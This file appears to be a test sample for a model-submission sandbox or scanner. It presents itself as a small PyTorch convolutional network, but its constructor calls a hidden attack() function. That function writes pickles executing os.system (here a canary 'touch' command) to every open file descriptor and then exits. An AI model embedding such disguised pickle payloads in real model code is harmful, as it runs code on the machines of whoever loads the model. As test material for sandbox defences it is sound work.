# group: forgery
# tries: writes pickles that run code to every descriptor
# static: unsafe
# sandbox: crashed
# below: 0.4

import os
import pickle

import torch.nn as nn


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/archloop-canary/open/archloop-breach-pickle",)


def attack():
    for protocol in range(6):
        for number in range(3, 1024):
            try:
                os.set_blocking(number, False)
                os.write(number, pickle.dumps(Payload(), protocol))
            except OSError:
                continue
    os._exit(0)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
